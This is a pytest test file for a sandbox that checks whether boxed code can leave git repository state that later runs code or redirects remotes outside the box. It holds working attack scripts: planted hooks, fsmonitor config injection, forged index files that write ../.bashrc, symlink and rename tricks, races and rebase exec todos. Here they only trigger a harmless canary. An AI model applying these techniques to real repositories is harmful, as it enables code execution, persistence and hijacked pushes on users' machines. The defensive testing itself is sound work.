"""More attacks that leave something in a repository which git, run later outside of the box, executes or trusts: links,
a forged index, the state of a rebase, exchanged directories, sockets, races. As in test_git.py each attack first has to
succeed outside. Here the commands that the person runs afterwards are part of each attack."""
import shutil
import subprocess

import pytest

from name_attack import GIT, LEVELS

GIT_ENVIRONMENT = {
    **GIT,
    'GIT_CONFIG_COUNT': '2',
    'GIT_CONFIG_KEY_0': 'init.defaultBranch',
    'GIT_CONFIG_VALUE_0': 'main',
    'GIT_CONFIG_KEY_1': 'protocol.file.allow',
    'GIT_CONFIG_VALUE_1': 'always',
}

BEGIN = '''git init -q . && echo a > a && git add a && git commit -qm one && echo b >> a && git commit -qam two && git branch side HEAD~ &&
git remote add origin https://example.com/o.git && git config branch.main.remote origin && git config branch.main.merge refs/heads/main'''

# Small programs for the scripts of the box.
EXCHANGE = ('python3 -c "import ctypes, sys; '
            'ctypes.CDLL(None).renameat2(-100, sys.argv[1].encode(), -100, sys.argv[2].encode(), 2)"')
SOCKET = 'python3 -c "import os, socket, sys; os.umask(0); socket.socket(socket.AF_UNIX).bind(sys.argv[1])"'
# Replaces a name in the index by one of the same length that git would not accept.
REPLACE_IN_INDEX = ('import hashlib, sys; old, new = (word.encode() for word in sys.argv[1:]); '
                    'text = open(".git/index", "rb").read()[:-20]; text = text.split(b"TREE")[0].replace(old, new); '
                    'open(".git/index.new", "wb").write(text + hashlib.sha1(text).digest())')
# Writes an index with an entry ../.bashrc that only a parser which finds entries exactly as git does can see.
FORGE_INDEX = '''
import hashlib, struct, sys
way, blob, harmless = sys.argv[1:]
def entry(path, id, length=None, size=20):
    body = struct.pack(">10I", *[0] * 6, 0o100644, 0, 0, 0) + id.ljust(size, b"x") + struct.pack(">H", length or len(path)) + path
    return body + bytes(8 - len(body) % 8)
def extension(name, data):
    return name + struct.pack(">I", len(data)) + data
evil, end = b"../.bashrc", bytes(20)
blob, harmless = bytes.fromhex(blob), bytes.fromhex(harmless)
first, second, bad = entry(b"a", harmless), entry(b"b", harmless), entry(evil, blob)
text = b"DIRC" + struct.pack(">II", 2, 2)
if way == "id":        # an entry with a sha256 id is read differently with sha1
    text = b"DIRC" + struct.pack(">II", 2, 1)
    text += entry(b"a", blob + struct.pack(">H", len(evil)) + evil, size=32) + extension(b"ABCD", bytes(4))
if way == "length":    # the length in the first entry decides where the next one starts
    text += entry(b"a", harmless, length=81) + second + extension(b"ABCD", bytes(8) + bad)
if way == "offsets":   # in a large index git takes the offsets of entries from the extension IEOT
    text += first + second
    after = len(text)
    spare = extension(b"ABCD", first + bad)
    table = extension(b"IEOT", struct.pack(">5I", 1, after + 8, 1, after + 8 + len(first), 1))
    heads = hashlib.sha1(spare[:8] + table[:8]).digest()
    text += spare + table + extension(b"EOIE", struct.pack(">I", after) + heads)
if way == "end":       # git searches the table from the end of the entries in the extension EOIE
    text += first + second
    after = len(text)
    table = extension(b"IEOT", struct.pack(">5I", 1, after + 16, 1, after + 16 + len(first), 1))
    spare = extension(b"ABCD", extension(b"EFGH", first + bad) + table)
    heads = hashlib.sha1(spare[8:16] + table[:8]).digest()
    text += spare + extension(b"EOIE", struct.pack(">I", after + 8) + heads)
open(".git/index.new", "wb").write(text + end)
'''
# Binds a socket through /proc/self/fd/NUMBER/cwd, in case "self" is the guard: one of its descriptors may be the /proc
# directory of the helper, whose working directory is the target.
BIND = '''
import os, socket, subprocess, sys
where, name = sys.argv[1:]
helper = subprocess.Popen(["sh", "-c", "while :; do : > f-of-attack; rm -f f-of-attack; done"], cwd=where)
os.symlink("/proc", "l")
done = False
for attempt in range(30):
    for number in range(64):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.bind(f"l/self/fd/{number}/cwd/{name}")
        except OSError:
            continue
        done = True
    done = done or os.path.exists(f"{where}/{name}")
    if done:
        break
helper.kill()
'''
# Writes a file in a directory that is by turns a repository and an ordinary directory.
RACE = '''
import ctypes, os, sys, time
one, other, name, text, flags = sys.argv[1:]
libc = ctypes.CDLL(None)
child = os.fork()
while child == 0:
    libc.renameat2(-100, one.encode(), -100, other.encode(), 2)
end = time.monotonic() + 3
while time.monotonic() < end:
    try:
        fd = os.open(f"{one}/{name}", os.O_WRONLY | int(flags), 0o755)
        os.ftruncate(fd, 0)
        os.write(fd, text.encode())
        os.close(fd)
    except OSError:
        pass
os.kill(child, 9)
os.waitpid(child, 0)
if not os.path.isdir(f"{one}/objects"):
    libc.renameat2(-100, one.encode(), -100, other.encode(), 2)
'''
# Creates a hook through a descriptor of the directory of hooks while the mode of the repository is 000.
MODE_000 = '''
import os, sys
where, name, text = sys.argv[1:]
top, hooks = (os.open(path, os.O_RDONLY | os.O_DIRECTORY) for path in (where, f"{where}/hooks"))
for attempt in range(50):
    os.close(os.open(f".//{attempt}.sample", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=hooks))
    os.fchmod(top, 0)
    try:
        fd = os.open(name, os.O_CREAT | os.O_WRONLY, 0o755, dir_fd=hooks)
        os.write(fd, text.encode())
        os.close(fd)
        os.fchmod(top, 0o755)
        break
    except OSError:
        os.fchmod(top, 0o755)
'''

HOOK = '#!/bin/sh\\n{canary}\\n'
EVIL = '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \\"{canary}; false\\"\\n'
SUB_WITH_GIT_FILE = 'git init -q sub && mv sub/.git sub/g && echo gitdir: g > sub/.git'
UNFINISHED_REBASE = (
    'O=$(git rev-parse HEAD); mkdir {0}/rebase-merge; for f in onto orig-head; do echo $O > {0}/rebase-merge/$f; done; '
    'echo refs/heads/main > {0}/rebase-merge/head-name; echo 1 > {0}/rebase-merge/msgnum; echo 1 > '
    '{0}/rebase-merge/end; : > {0}/rebase-merge/interactive; : > {0}/rebase-merge/done; echo "exec {{canary}}" > '
    '{0}/rebase-merge/git-rebase-todo')
CONFLICT = ('echo c > a; git commit -qam three; git checkout -q side; echo z > a; git commit -qam s1; echo z2 > f; '
            'git add f; git commit -qm s2')
OTHER_REPOSITORY = 'git init -q e; git -C e remote add origin https://other.example/x.git'
ADD_OTHER = 'git remote add other https://other.example/x.git'
REDIRECTED = 'case "$(git remote get-url origin) $(git config branch.main.remote)" in *other*) {canary};; esac'
FORGED_INDEX = (
    'git init -q m; B=$(echo {canary} | git -C m hash-object -w --stdin); '
    'H=$(echo a | git -C m hash-object -w --stdin); '
    f"cp -r m/.git/objects .git; python3 -c '{FORGE_INDEX}' {{0}} $B $H; mv .git/index.new .git/index")
CHECKOUT = 'git checkout -- .; sh ../.bashrc'
COMMIT = 'echo q >> a; git status; git commit -qam q; git status'

# title: (the commands of the person before, those of the box, those of the person afterwards)
ATTACKS = {
    'a link instead of COMMIT_EDITMSG': (
        ':',
        f'printf "{EVIL}" > .git/MERGE_MSG; rm -f .git/COMMIT_EDITMSG; ln -s config '
            f'.git/COMMIT_EDITMSG',
        'echo q > a; git commit -a; git status'),
    'a link instead of a reflog': (
        'echo "# mine" > ../.bashrc',
        'git config user.name "x\\$({canary})y"; rm -f .git/logs/HEAD; '
            'ln -s ../../../.bashrc .git/logs/HEAD',
        'echo q > a; env -u GIT_COMMITTER_NAME git commit -qam q; sh ../.bashrc'),
    'a link renamed to COMMIT_EDITMSG': (
        ':',
        f'printf "{EVIL}" > .git/MERGE_MSG; rm -f .git/COMMIT_EDITMSG; ln -s config m; mv m '
            f'.git/COMMIT_EDITMSG',
        'echo q > a; git commit -a; git status'),
    'a link in a directory that is renamed to logs': (
        ':',
        'git config user.name "x\\$({canary})y"; mkdir l; ln -s '
            '../../../.bashrc l/HEAD; '
            'mv .git/logs .git/old && mv l .git/logs',
        'echo > ../.bashrc; echo q > a; env -u GIT_COMMITTER_NAME git commit '
            '-qam q; sh ../.bashrc'),
    'a merge strategy for a rebase': (
        CONFLICT,
        f'git rebase main; mkdir git-merge-x; printf "{HOOK}exit 1\\n" > git-merge-x/e; chmod +x '
            f'git-merge-x/e; '
            'printf x/e > .git/rebase-merge/strategy; echo r > a; git add a',
        'git rebase --continue'),
    'a hook in the index': (
        ':',
        f'B=$(printf "{HOOK}" | git hash-object -w --stdin); git update-index --add '
            f'--cacheinfo 100755,$B,'
            f'.hit/hooks/post-checkout; python3 -c \'{REPLACE_IN_INDEX}\' .hit .git; '
            'mv .git/index.new .git/index',
        'git checkout -- .; git checkout side'),
    'a path out of the workspace in the index': (
        'echo > ../.bashrc',
        'B=$(echo {canary} | git hash-object -w --stdin); git update-index --add '
            f'--cacheinfo 100755,$B,.x/.bashrc; python3 -c \'{REPLACE_IN_INDEX}\' .x/ ../; mv '
            f'.git/index.new .git/index',
        'git checkout -- .; sh ../.bashrc'),
    'an index read with another length of ids': (
        'rm -rf .git; echo > ../.bashrc',
        'git init -q --object-format=sha256 .; ' + FORGED_INDEX.replace('{0}', 'id') +
            '; git init -q --object-format=sha1 m2; mv m2/.git/config .git/config',
        CHECKOUT),
    'an index with long ids and no configuration': (
        ':',
        'git init -q --object-format=sha256 n; cd n; ' +
            FORGED_INDEX.replace('{0}', 'id') + '; rm .git/config',
        'cd n; git checkout -- .; test -e ../.bashrc && {canary}'),
    'an index with a wrong length of a path': ('echo > ../.bashrc', FORGED_INDEX.replace('{0}', 'length'), CHECKOUT),
    'an index with a table of offsets': (
        'echo > ../.bashrc',
        'git config index.threads 4; ' + FORGED_INDEX.replace('{0}', 'offsets'),
        CHECKOUT),
    'an index whose EOIE extension gives a false end': (
        'echo > ../.bashrc',
        'git config index.threads 4; ' + FORGED_INDEX.replace('{0}', 'end'),
        CHECKOUT),
    'a prepared repository exchanged for .git': (
        ':',
        f'git clone -q . n; mv n/.git g; mv g/refs r; {UNFINISHED_REBASE.format("g")}; {EXCHANGE} g '
            f'.git; mv r .git/refs',
        'git rebase --continue'),
    'the directory of hooks exchanged for an empty one': (
        f'printf "#!/bin/sh\\nexit 1\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit',
        f'mkdir h; {EXCHANGE} h .git/hooks',
        'echo q >> a; git commit -qam q && {canary}'),
    'a directory of hooks without the search permission': (
        'printf "#!/bin/sh\\nexit 1\\n" > .git/hooks/pre-commit; chmod +x '
            '.git/hooks/pre-commit',
        'chmod u-x .git/hooks',
        'stat -c %A .git/hooks | grep -q ^drw- && {canary}'),
    'a directory with a hook renamed to .git': (
        'rm -rf .git',
        f'mkdir -p g/hooks; printf "{HOOK}" > g/hooks/pre-commit; chmod '
            f'+x g/hooks/pre-commit; '
            'mv g .git',
        'git init; git add a; git commit -qm c'),
    'a repository with an unfinished rebase renamed to .git': (
        ':',
        f'git init -q t; cd t; echo 1 > f; git add f; git commit -qm c; cd ..; '
            f'mkdir sub; mv t/.git g; '
            f'mv g/refs r; {UNFINISHED_REBASE.format("g")}; cp r/heads/main g/rebase-merge/onto; '
            'cp r/heads/main g/rebase-merge/orig-head; mv g sub/.git; mv r sub/.git/refs; '
            'mv t/f sub',
        'cd sub; git rebase --continue'),
    'a work tree that is also the repository': (
        ':',
        f'git init -q t; cd t; echo 1 > f; git add f; git commit -qm c; mkdir '
            f'hooks; '
            f'printf "{HOOK}" > hooks/post-checkout; chmod +x hooks/post-checkout; git '
            f'add hooks; '
            'git branch feature $(git commit-tree -p HEAD -m n $(git write-tree)); '
            'git rm -q --cached -r hooks; rm -rf hooks; cd ..; mkdir sub; '
            'for i in HEAD config objects refs index logs info; do mv t/.git/$i sub; '
            'done; '
            'echo "gitdir: ." > sub/.git',
        'cd sub; git checkout -f feature'),
    'a work tree that is a link to .git': (
        ':',
        f'git init -q sm; cd sm; echo 1 > f; git add f; git commit -qm c; mkdir '
            f'hooks; '
            f'printf "{HOOK}" > hooks/post-checkout; chmod +x hooks/post-checkout; git add '
            f'hooks; '
            'git branch feature $(git commit-tree -p HEAD -m n $(git write-tree)); git rm -q '
            '--cached -r hooks; '
            'rm -rf hooks; mkdir ../.git/modules; mv .git ../.git/modules/sm; echo gitdir: '
            '../.git/modules/sm > .git; '
            'ln -s .git ../lnk; git config core.worktree ../../../lnk',
        'cd sm; git checkout -f feature; cd ..; git checkout side'),
    'the repository of a submodule is renamed': (
        'echo > ../.bashrc',
        'git init -q sm; cd sm; B=$(echo {canary} | git hash-object -w '
            '--stdin); '
            'git update-index --add --cacheinfo 100644,$B,.bashrc; git commit -qm '
            'c; mkdir ../.git/modules ../p; '
            'mv .git ../.git/modules/sm; echo gitdir: ../.git/modules/sm > .git; '
            'git config core.worktree ../../..; '
            'git config core.worktree ../../../p/..; mv ../.git/modules/sm ../p/gg; '
            'echo gitdir: ../p/gg > .git; '
            'sed -i s,worktree.*,worktree=../../.., ../p/gg/config',
        'cd sm; git checkout -f; sh ../../.bashrc'),
    'a socket that completes a repository': (
        ':',
        f'mkdir -p x/objects sub; printf "{EVIL}" > x/config; echo ref: '
            f'refs/heads/main > x/HEAD; '
            f'{SOCKET} x/refs; echo gitdir: ../x > sub/.git',
        'cd sub; git status'),
    'a race for a configuration': (
        ':',
        f'{SUB_WITH_GIT_FILE}; mkdir sub/d; echo > sub/d/config; python3 -c \'{RACE}\' sub/g sub/d '
            f'config '
            f'"$(printf "{EVIL}")" 0',
        'cd sub; git status'),
    'a race for a hook': (
        ':',
        f'{SUB_WITH_GIT_FILE}; mkdir -p sub/d/hooks sub/g/hooks; python3 -c \'{RACE}\' sub/g sub/d '
            f'hooks/pre-commit '
            f'"$(printf "{HOOK}")" 64',
        'cd sub; echo 1 > f; git add f; git commit -m x'),
    'a hook in a repository with mode 000': (
        ':',
        f'{SUB_WITH_GIT_FILE}; mkdir -p sub/g/hooks; python3 -c \'{MODE_000}\' sub/g '
            f'pre-commit "$(printf "{HOOK}")"',
        'cd sub; echo 1 > f; git add f; git commit -m x'),
    'a directory with remotes that becomes a repository': (
        ':',
        'git init -q sub; mv sub/.git sub/g; mv sub/g/refs sub/r; mkdir '
            'sub/g/remotes; '
            'echo "URL: https://other.example/x" > sub/g/remotes/origin; mv sub/r '
            'sub/g/refs; mv sub/g sub/.git',
        'cd sub; git ls-remote --get-url origin | grep other && {canary}'),
    'another common directory': (':', f'{OTHER_REPOSITORY}; mv e/.git ev; echo ../ev > .git/commondir', REDIRECTED),
    'another common directory of a worktree': (
        'git worktree add -q ../wt side',
        f'{OTHER_REPOSITORY}; mv e/.git ev; echo $PWD/ev > .git/worktrees/wt/commondir',
        f'cd ../wt; {REDIRECTED}'),
    'another repository exchanged for .git': (':', f'{OTHER_REPOSITORY}; {EXCHANGE} e/.git .git', REDIRECTED),
    'another upstream, behind long comments': (
        ':',
        'cp .git/config .git/config.lock; i=0; while [ $i -lt 3000 ]; do '
            'echo "# 012345678901234567890123456789'
            '01234567890123456789"; i=$((i+1)); done >> .git/config.lock; mv '
            '.git/config.lock .git/config; '
            'git config --unset branch.main.remote; git remote add other '
            'https://other.example/x.git; '
            'git config branch.main.remote other',
        REDIRECTED),
    'another upstream, after many repositories': (
        ':',
        'i=0; while [ $i -lt 66 ]; do git init -q n$i; git -C n$i '
            'config user.name x; i=$((i+1)); '
            'done; git config --unset branch.main.remote; git remote add other '
            'https://other.example/x.git; '
            'git config branch.main.remote other',
        REDIRECTED),
    # In the next two attacks a rename fails after the guard has accepted the new content. The guard once remembered
    # that content as the person's own, although it was never installed.
    'another upstream, after a rename across file systems': (
        ':',
        f'{ADD_OTHER}; cp .git/config /tmp/config.$$; echo "# x" >> /tmp/config.$$; '
            f'python3 -c "import os, sys; os.rename(sys.argv[1], sys.argv[2])" /tmp/config.$$ .git/config; '
            f'git config branch.main.remote other',
        REDIRECTED),
    'another upstream, after a rename with RENAME_NOREPLACE': (
        ':',
        f'{ADD_OTHER}; cp .git/config .git/config.lock; echo "# x" >> .git/config.lock; python3 -c '
            f'"import ctypes; ctypes.CDLL(None).renameat2(-100, b\'.git/config.lock\', -100, b\'.git/config\', 1)"; '
            f'rm .git/config.lock; git config branch.main.remote other',
        REDIRECTED),
    'alternates through a link to objects': (
        ':',
        'mv .git/objects .git/o; mkdir -p .git/o/info; echo /x > '
            '.git/o/info/alternates; ln -s o .git/objects',
        'cat .git/objects/info/alternates && {canary}'),
    'alternates through a link to the target of git init': (
        ':',
        'mv .git/objects .git/testing; mkdir -p .git/testing/info; echo /x > .git/testing/info/alternates; ln -s '
            'testing .git/objects',
        'cat .git/objects/info/alternates && {canary}'),
    'all repositories of submodules are renamed': (
        'echo > ../.bashrc',
        'git init -q sm; cd sm; B=$(echo {canary} | git hash-object -w --stdin); '
            'git update-index --add --cacheinfo 100644,$B,.bashrc; git commit -qm c; mkdir ../.git/modules; mv .git '
            '../.git/modules/sm; '
            'echo gitdir: ../.git/modules/sm > .git; git config core.worktree ../../..; mv ../.git/modules ../modules; '
            'echo gitdir: ../modules/sm > .git',
        'cd sm; git checkout -f; sh ../../.bashrc'),
    'a directory of hooks that is a work tree': (
        ':',
        'B=$(printf "#!/bin/sh\\n{canary}\\n" | git hash-object -w --stdin); '
            'git update-index --add --cacheinfo 100755,$B,post-checkout; git commit -qm c; '
            'echo gitdir: .. > .git/hooks/.git',
        'cd .git/hooks; git checkout -f; cd ../..; git checkout -q side'),
    'a file that is renamed to .git in a repository': (
        ':',
        'git init -q t; cd t; echo 1 > f; git add f; git commit -qm c; mkdir hooks; '
            'printf "#!/bin/sh\\n{canary}\\n" > hooks/post-checkout; chmod +x hooks/post-checkout; git add hooks; '
            'git branch feature $(git commit-tree -p HEAD -m n $(git write-tree)); git rm -q --cached -r hooks; rm -rf '
            'hooks; cd ..; mkdir sub; '
            'for i in HEAD config objects refs index logs info; do mv t/.git/$i sub; done; echo "gitdir: ." > g; mv g '
            'sub/.git',
        'cd sub; git checkout -f feature'),
    'a file that an included file includes': (
        'git config include.path ../one.cfg; printf "[include]\\n\\tpath = '
            'deep/two.cfg\\n" > one.cfg; mkdir deep; '
            'echo > deep/two.cfg',
        f'printf "{EVIL}" > deep/two.cfg',
        COMMIT),
    'hooks that an included file names': (
        'git config include.path ../one.cfg; printf "[core]\\n\\thooksPath = tools/hooks\\n" > '
            'one.cfg; mkdir -p tools/hooks',
        f'printf "{HOOK}" > tools/hooks/pre-commit; chmod +x tools/hooks/pre-commit',
        COMMIT),
    'hooks that the global configuration names': (
        'git config --global core.hooksPath tools/hooks; mkdir -p tools/hooks',
        f'printf "{HOOK}" > tools/hooks/pre-commit; chmod +x tools/hooks/pre-commit',
        COMMIT),
    'a file that a worktree includes': (
        'git config extensions.worktreeConfig true; git config --worktree include.path '
            '../wt.cfg; echo > wt.cfg',
        f'printf "{EVIL}" > wt.cfg',
        COMMIT),
    'a hook that is a link': (
        f'mkdir scripts; printf "#!/bin/sh\\n:\\n" > scripts/pc; chmod +x scripts/pc; ln -s '
            f'../../scripts/pc .git/hooks/pre-commit',
        f'printf "{HOOK}" > scripts/pc',
        COMMIT),
    'the address of a submodule': (
        'git init -q ../lib; (cd ../lib; echo 1 > f; git add f; git commit -qm 1); git submodule '
            'add -q $PWD/../lib lib; '
            'git commit -qm sm',
        'mv .git/modules/lib/config .git/modules/lib/old; sed "s#url = '
            '.*#url = https://other.example/x#" '
            '.git/modules/lib/old > .git/modules/lib/config.lock; mv .git/modules/lib/config.lock '
            '.git/modules/lib/config',
        'cd lib; git remote get-url origin | grep other && {canary}'),
    'a promisor remote': (
        ':',
        'git config remote.zz.url https://127.0.0.1:1/x; git config '
            'remote.zz.promisor true',
        'test "$(git config remote.zz.promisor)" = true && {canary}'),
    'a .git that is a file': (
        'cd ..; mv work main; cd main; git worktree add -q ../work side; cd ../work',
        f'rm .git; {OTHER_REPOSITORY}; mv e/.git .git || {{ mv e/.git other; echo gitdir: other > .git; '
            f'}}',
        REDIRECTED),
}


class Person:
    """A home with a workspace in it, and a canary that creates a mark outside of the workspace."""

    def __init__(self, top, build):
        self.build, self.home, self.work = build, top / 'home', top / 'home/work'
        self.mark, self.canary = self.home / 'mark', self.home / 'canary'
        self.work.mkdir(parents=True)
        self.canary.write_text(f'#!/bin/sh\ntouch {self.mark}\n')
        self.canary.chmod(0o755)
        (self.home / '.gitconfig').write_text('[user]\n name = person\n email = p@example.com\n[gc]\n auto = 0\n')

    def run(self, script, *prefix):
        env = {'HOME': str(self.home), 'PATH': '/usr/bin:/bin', 'LANG': 'C.UTF-8', 'GIT_EDITOR': 'true',
               **GIT_ENVIRONMENT}
        text = script.replace('{canary}', str(self.canary))
        return subprocess.run([*prefix, 'sh', '-c', text], cwd=self.work, env=env, stdin=subprocess.DEVNULL,
                              capture_output=True,
                              encoding='utf-8', errors='replace', timeout=90, check=False)

    def box(self, level, *flags):
        """The start of a command line that runs the rest of the line in a box."""
        variables = [word for name, value in GIT_ENVIRONMENT.items() for word in ('--env', f'{name}={value}')]
        return [str(self.build / 'ringwall'), 'run', '--level', level, *variables, *flags, '--']


PROVEN = set()  # the attacks that succeeded outside


def assert_attack_fails(top, build, level, title, attacks):
    before, attack, afterwards = attacks[title]
    for place in ('out', 'in'):
        if place == 'out' and title in PROVEN:
            continue
        shutil.rmtree(top / place, ignore_errors=True)
        person = Person(top / place, build)
        started = person.run(BEGIN)
        assert started.returncode == 0, started.stderr
        person.run(before)
        result = person.run(attack, *([] if place == 'out' else person.box(level)))
        assert not person.mark.exists(), f'{place}: the mark was made during the attack: {result.stdout}{result.stderr}'
        after = person.run(afterwards)
        output = f'{place}: {result.stdout}{result.stderr}\nlater: {after.stdout}{after.stderr}'
        assert person.mark.exists() == (place == 'out'), output
        PROVEN.add(title)


@pytest.mark.parametrize('level', LEVELS)
@pytest.mark.parametrize('title', ATTACKS)
def test_git_outside_executes_and_trusts_nothing_that_a_box_left(tmp_path, build, level, title):
    assert_attack_fails(tmp_path, build, level, title, ATTACKS)


@pytest.mark.parametrize('level', LEVELS)
def test_socket_cannot_be_bound_through_descriptors_of_the_guard(tmp_path, build, level):
    """In the guard, /proc/self is the guard and not its caller. This attack has no meaning outside of a box."""
    person = Person(tmp_path, build)
    (person.work / 'b').mkdir()
    (person.work / 'policy.yaml').write_text('')
    box = [*person.box(level)[:-1], '--deny-write', 'b/secret', '--']
    result = person.run(f"python3 -c '{BIND}' b secret", *box)
    assert not (person.work / 'b/secret').exists(), result.stdout + result.stderr


@pytest.mark.parametrize('level', LEVELS)
def test_two_boxes_one_after_the_other_cannot_change_an_upstream(tmp_path, build, level):
    person = Person(tmp_path, build)
    person.run(BEGIN)
    for script in ('git config --unset branch.main.remote; git branch -m main other; git branch -m other main; true',
                   'git remote add other https://other.example/x.git; git config branch.main.remote other'):
        person.run(script, *person.box(level))
    person.run(REDIRECTED)
    assert not person.mark.exists()
